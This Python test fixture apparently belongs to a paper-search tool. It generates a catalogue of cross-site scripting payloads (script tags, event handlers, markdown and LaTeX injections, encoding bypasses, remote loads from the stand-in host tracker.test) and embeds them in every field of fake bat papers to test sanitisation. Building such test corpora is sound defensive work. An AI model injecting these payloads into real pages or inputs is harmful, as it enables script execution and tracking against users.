"""A corpus of scripts that would run if any text of a paper, a reader or a model reached the page as markup.

Each calls `pwn(NUMBER)`, or asks `tracker.test` for something: whoever opens a page can see whether one did.
"""

from __future__ import annotations

from itertools import count

from rag.papers import Paper

_TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script/src=data:text/javascript,{}></script>",
    "<script src=https://tracker.test/{n}.js></script>",
    "<script type=module>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<math><mtext></p><style><!--</style><img title='--><img src=x onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
)
_HANDLERS = (
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<img/src=x/onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    "<img src=x\nonerror\n=\n{}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onend={} attributeName=x dur=.1s>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<div tabindex=1 autofocus onfocus={}>x</div>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<p style='animation:spin 1s' onanimationstart={}>x</p>",
    "<x contenteditable autofocus onfocus={}>x</x>",
    "<button popovertarget=q>x</button><p popover id=q onbeforetoggle={}>",
)
_BROKEN_OUT = (
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' onmouseover={} '",
    "</div></div><img src=x onerror={}>",
    "</script><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "</mark><img src=x onerror={}><mark>",
    "\\u003cimg src=x onerror={}\\u003e",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "＜img src=x onerror={}＞",
    "<\x00img src=x onerror={}>",
    "%3Cimg src=x onerror={}%3E",
    "+ADw-img src=x onerror={}+AD4-",
    "{{constructor.constructor('{}')()}}",
    "${{{}}}",
    "<!--><img src=x onerror={}>-->",
)
_MARKDOWN = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "![x](https://tracker.test/{n}.png)",
    "![x](x 'y\" onerror=\"{}')",
    "[x](https://tracker.test 'y\" onmouseover=\"{}')",
    "```html\n<img src=x onerror={}>\n```",
    "`<img src=x onerror={}>`",
    "|a|\n|-|\n|<img src=x onerror={}>|",
    "> <img src=x onerror={}>",
    "# <svg onload={}>",
)
_FORMULAS = (
    "$\\href{javascript:{}}{x}$",
    "$\\url{javascript:{}}$",
    "$\\htmlData{onload={}}{x}$",
    "$\\text{<img src=x onerror={}>}$",
    "$$\\includegraphics{https://tracker.test/{n}.png}$$",
    "\\(\\unicode{<svg onload={}>}\\)",
    "$x</span><img src=x onerror={}>$",
    "$\\style{background:url(https://tracker.test/{n})}{x}$",
    "$\\def\\a{<svg onload={}>}\\a$",
)
_FETCHED = (
    "<link rel=stylesheet href=https://tracker.test/{n}.css>",
    "<style>@import 'https://tracker.test/{n}.css'</style>",
    '<p style="background:url(https://tracker.test/{n}.png)">x</p>',
    "<img srcset=https://tracker.test/{n}.png>",
    "<meta http-equiv=refresh content='0;url=https://tracker.test/{n}'>",
    "<base href=https://tracker.test/{n}/>",
    "<form action=https://tracker.test/{n}><button autofocus>x</button></form>",
    "<video poster=https://tracker.test/{n}.png>",
    "<a href=https://tracker.test/{n} ping=https://tracker.test/{n}>x</a>",
    "<svg><image href=https://tracker.test/{n}.png /></svg>",
    "<input type=image src=https://tracker.test/{n}.png>",
    "<link rel=dns-prefetch href=//{n}.tracker.test>",
)


def payloads() -> list[str]:
    """All of them, each with a number of its own."""
    numbers = count(1)
    return [
        text.replace("{n}", str(number)).replace("{}", f"pwn({number})")
        for kind in (_TAGS, _HANDLERS, _BROKEN_OUT, _MARKDOWN, _FORMULAS, _FETCHED)
        for text, number in zip(kind, numbers, strict=False)
    ]


def hostile_papers() -> list[Paper]:
    """Papers on bats with one payload each, in every field that a paper has."""
    return [
        Paper(
            paper_id=f"{payload} {number}",
            title=f"Bats {number} {payload}",
            abstract=f"Bats hunt moths by echo {payload} in the dark of night number {number}.",
            authors=(payload, f"Bo {payload}"),
            year=2024,
            venue=payload,
            url=payload if number % 2 else f"https://tracker.test/{number}?{payload}",
            kind=payload,
            status="",
            identifiers=(f"doi:10.1/{payload}", payload),
            source=f"{payload}.json",
        )
        for number, payload in enumerate(payloads())
    ]
